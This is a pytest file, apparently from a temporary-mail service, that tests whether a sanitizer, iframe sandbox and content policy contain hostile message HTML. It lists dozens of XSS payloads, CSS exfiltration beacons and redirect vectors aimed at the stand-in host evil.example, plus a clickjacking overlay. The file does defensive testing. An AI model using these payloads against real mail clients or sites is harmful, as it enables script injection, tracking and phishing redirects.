"""The frame of message HTML in a real browser: sanitizer, sandbox and policy, each taken away in turn.

Documents are served with the headers and attributes of the real ones, many to a page.
The vectors are our own and, where it lies beside the checkout, a collection's.
"""

import json
import os
from pathlib import Path

import pytest

from tests.worlds.frames import WALLS, put_frames

CORPUS = os.environ.get("TEMPMAIL_CORPUS")
# Each would be seen: it runs a script, fetches, or goes elsewhere.
OWN_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)' target=_top>x</a>",
    "<form action='https://evil.example/'><input name=a><button>go</button></form>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><img src=x.png>",
    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example/'>",
    "<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='https://evil.example'>",
    "<img src='https://evil.example/pixel.gif'><img srcset='https://evil.example/2 2x'>",
    "<picture><source srcset='https://evil.example/3'><img></picture>",
    "<video src='https://evil.example/v' poster='https://evil.example/p' autoplay></video>",
    "<audio src='https://evil.example/a' autoplay></audio><track src='https://evil.example/t'>",
    "<table background='https://evil.example/b'><tr><td background='https://evil.example/c'>x</table>",
    "<p style='background:url(https://evil.example/)'>x",
    "<ul style='list-style-image:url(https://evil.example/)'><li>x</ul>",
    "<p style='content:url(https://evil.example/);cursor:url(https://evil.example/),auto'>x",
    "<style>@import 'https://evil.example/'; @font-face{font-family:f;src:url(https://evil.example/f)} p{font-family:f}"
    "body{background:image-set('https://evil.example/i' 1x)}</style><p>x",
    "<style>p{background:url(https://evil.example/s1)}</style><p>x",
    "<style>p{list-style:url('https://evil.example/s2');display:list-item}</style><p>x",
    "<style>p::before{content:url(https://evil.example/s3)}p{cursor:url(https://evil.example/s4),auto}</style><p>x",
    "<style>@media screen{@import url(https://evil.example/s5);p{mask:url(https://evil.example/s6)}}</style><p>x",
    "<style>a[href^='https://s']{background:url(https://evil.example/s7)}</style><a href=https://s.example>x</a>",
    "<style>p{--u:url(https://evil.example/s8);background:var(--u)}</style><p>x",
    "<style>p{back\\67round:u\\72l(https://evil.example/s9)}</style><p>x",
    "<style>p{background:u/**/rl(https://evil.example/s10);background:url(/*)*/https://evil.example/s11)}</style><p>x",
    "<style>@font-face{font-family:f;src:url(https://evil.example/s12)}@namespace url(https://evil.example/s13);"
    "p{font-family:f}</style><p>x",
    "<style>p:has(a){background:image-set('https://evil.example/s14' 1x)}</style><p><a>x</a>",
    "<style>p{color:red</style><img src=x onerror=alert(1)><style>}</style>",
    "<style>a{b:'</style><script>alert(1)</script>'}</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<style>p{x:expression(alert(1));behavior:url(https://evil.example/s15);-moz-binding:url(https://evil.example/s16)}"
    "</style><p>x",
    "<style>\\3c/style>\\3cscript>alert(1)\\3c/script></style><p style='color:\\3c/style>\\3cimg onerror=alert(1)>'>x",
    "<style media='screen{}</style><script>alert(1)</script>'>p{color:red}</style>",
    "<style>@media screen</style><script>alert(1)</script>{p{color:red}}</style>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<title><style></title><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)><body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<script>parent.document.title='taken'; top.location='https://evil.example/'; open('https://evil.example/')</script>",
    "<img src=x onerror=\"parent.document.body.dataset.taken='yes'\">",
]


def vectors():
    found = list(OWN_VECTORS)
    if CORPUS:
        files = sorted(Path(CORPUS, "html").glob("*.json"))
        found += [vector for file in files for vector in json.loads(file.read_text())["vectors"]]
    return found


@pytest.mark.parametrize("wall", WALLS)
def test_N5_N8_without_one_wall_the_others_stop_every_vector(watched, site, wall):
    assert watched(put_frames(site, vectors(), without=[wall])) == []


@pytest.mark.skipif(not CORPUS, reason="TEMPMAIL_CORPUS does not name the folder of vectors")
def test_the_collection_of_vectors_is_part_of_it():
    assert len(vectors()) > len(OWN_VECTORS) + 400


def test_without_all_walls_the_same_vectors_are_seen_to_attack(watched, site):
    """What the tests above call nothing, they would see."""
    seen = watched(put_frames(site, OWN_VECTORS[:-2], without=WALLS))

    assert len([event for event in seen if event.startswith("dialog")]) >= 10
    for what in ("pixel.gif", "x.css", "/b", "evil.example/v", "s1", "s2", "s8", "s9", "s14"):
        assert any(event.startswith("request") and what in event for event in seen), what
    assert any("page taken" in event for event in watched(put_frames(site, OWN_VECTORS[-1:], without=WALLS)))


@pytest.mark.parametrize("wall", WALLS[1:])
def test_no_script_runs_behind_either_wall_alone(watched, site, wall):
    """Sandbox and policy each stop every script without the sanitizer and without each other."""
    others = [other for other in WALLS if other != wall]

    seen = watched(put_frames(site, OWN_VECTORS, without=others))

    assert [event for event in seen if not event.startswith("request")] == []


@pytest.mark.parametrize("without", [[], ["sanitizer"]], ids=["sanitized", "not sanitized"])
def test_N4_message_covers_nothing_outside_its_frame(browser, site, without):
    overlay = (
        '<a href="https://evil.example/" style="position:fixed;top:-900px;left:-900px;width:9000px;height:9000px;'
        'z-index:2147483647;margin:-900px;transform:scale(9);background:red">Delete</a><dialog open>x</dialog>'
    )
    (path,) = put_frames(site, [overlay], without)
    headers, html = site.pages[path]
    site.pages[path] = (headers, html.replace("<iframe", "<button>Delete</button><p></p><iframe"))
    page = browser.new_page()

    page.goto(site.url + path)

    button = page.get_by_role("button", name="Delete")
    button.click()  # refuses where something else would get the click
    hit = "e => { const r = e.getBoundingClientRect(); return document.elementFromPoint(r.x + 5, r.y + 5) === e }"
    assert button.evaluate(hit)
    page.close()
